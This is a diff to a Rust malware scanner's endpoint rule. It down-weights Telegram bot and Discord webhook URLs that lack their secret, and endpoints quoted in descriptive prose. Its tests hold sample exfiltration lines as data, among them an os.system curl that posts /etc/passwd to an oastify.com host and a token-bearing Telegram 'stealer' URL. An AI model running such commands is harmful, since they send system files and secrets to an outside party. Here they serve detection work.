@@ -273,7 +273,29 @@ pub fn classify_strength(text: &str) -> Option<(String, f64, bool)> {
     // names one reports to its author whenever it runs.
     classify(text).map(|(label, weight)| {
         let strong = label == "request catcher";
+        if secret_left_open(text) {
+            return (
+                format!("{label} with its secret left to the caller"),
+                weight * 0.3,
+                false,
+            );
+        }
         (label, weight, strong)
+    })
+}
+
+/// Where a bot or webhook URL needs its secret (`bot<token>`, `webhooks/<id>/<token>`).
+static SECRET_SLOT: LazyLock<Regex> =
+    crate::static_regex!(r"(?i)(?:api\.telegram\.org/bot|discord(?:app)?\.com/api/webhooks/?)(.?)");
+
+/// True for a bot or webhook URL whose secret is a placeholder or missing (`bot{0}/{1}`,
+/// `bot%s`, `api/webhooks/{id}/{token}`, the bare base): the template of a client library,
+/// which sends to whatever bot its user configures. A stealer's URL carries its owner's secret,
+/// and a secret kept in another literal is caught on its own ([`TELEGRAM_TOKEN`]).
+fn secret_left_open(text: &str) -> bool {
+    SECRET_SLOT.captures(text).is_some_and(|c| {
+        let next = c.get(1).map_or("", |m| m.as_str());
+        next.is_empty() || matches!(next, "{" | "%" | "$" | "<" | "'" | "\"" | "`" | " ")
     })
 }
 
@@ -317,6 +339,9 @@ pub fn check_string(checker: &mut Checker, value: &str, range: TextRange) {
     };
     let context = checker.context();
     let severity = match context {
+        // A sentence that mentions a service (`e.g. 'https://hooks.slack.com/services/T000…'`
+        // in a field's description) documents it wherever it sits.
+        _ if !strong && is_prose(value) => weight * 0.25,
         ExecContext::Install | ExecContext::Import => weight,
         ExecContext::Runtime if strong => weight * 0.9,
         // A client library may name a service it talks to when asked; loading code should not.
@@ -330,6 +355,19 @@ pub fn check_string(checker: &mut Checker, value: &str, range: TextRange) {
         severity,
         vec!["endpoint"],
     );
+}
+
+/// True for text that reads as sentences: six or more plain words (letters only, with
+/// trailing punctuation). Commands and URLs that a payload uses have few: `curl -d @f https://…`.
+fn is_prose(text: &str) -> bool {
+    text.split_whitespace()
+        .filter(|word| {
+            let word = word.trim_end_matches([',', '.', ';', ':', '!', '?', ')']);
+            let word = word.trim_start_matches('(');
+            word.len() >= 2 && word.bytes().all(|b| b.is_ascii_alphabetic())
+        })
+        .nth(5)
+        .is_some()
 }
 
 #[cfg(test)]
@@ -397,6 +435,39 @@ mod tests {
         assert!(max_severity("p/pkg/util.py", code, "WH160") >= 0.6);
         let code = "def send(token):\n    u = f'https://api.telegram.org/bot{token}/sendMessage'\n";
         assert!(max_severity("p/pkg/util.py", code, "WH160") < 0.4);
+    }
+
+    #[test]
+    fn endpoints_mentioned_in_sentences_are_documentation() {
+        let described = "F = Field(None, description=\"Mapping of alert type to webhook url. e.g. `alert_to_webhook_url: {'budget_alerts': 'https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX'}`\")\n";
+        let severity = max_severity("p/pkg/types.py", described, "WH160");
+        assert!(severity > 0.0 && severity < 0.2, "{severity}");
+        // A command line is no sentence, and a hard-coded webhook secret weighs anywhere.
+        let command =
+            "import os\nos.system('curl -s -X POST -d @/etc/passwd https://abc.oastify.com/x')\n";
+        assert!(max_severity("p/setup.py", command, "WH160") >= 0.6);
+        let told = "MSG = 'please do not share this with anyone at all, it goes to https://discord.com/api/webhooks/123456789012/abcdefghijklmnopqrstuvwxyz'\n";
+        assert!(max_severity("p/pkg/__init__.py", told, "WH160") >= 0.8);
+    }
+
+    #[test]
+    fn bot_and_webhook_templates_without_their_secret_are_weak_even_while_loading() {
+        for template in [
+            "API_URL = 'https://api.telegram.org/bot{0}/{1}'\n",
+            "API_URL = 'https://api.telegram.org/bot'\n",
+            "BASE = 'https://api.telegram.org/bot%s/%s'\n",
+            "HOOK = 'https://discord.com/api/webhooks/{id}/{token}'\n",
+        ] {
+            let severity = max_severity("p/pkg/api.py", template, "WH160");
+            assert!(severity > 0.0 && severity < 0.3, "{template}: {severity}");
+        }
+        // The owner's secret in the URL, or on its own, still weighs in full.
+        let stealer = "U = 'https://api.telegram.org/bot5711014217:AAGm6ZmhZmgkxkHMAO2lpynlmkJYXXgrtb4/sendDocument'\n";
+        assert!(max_severity("p/pkg/__init__.py", stealer, "WH160") >= 0.8);
+        let split = "T = '5711014217:AAGm6ZmhZmgkxkHMAO2lpynlmkJYXXgrtb4'\nU = 'https://api.telegram.org/bot'\n";
+        assert!(max_severity("p/pkg/__init__.py", split, "WH160") >= 0.6);
+        let named = "U = 'https://api.telegram.org/botTOKEN/sendMessage'\n";
+        assert!(max_severity("p/pkg/__init__.py", named, "WH160") >= 0.6);
     }
 
     #[test]
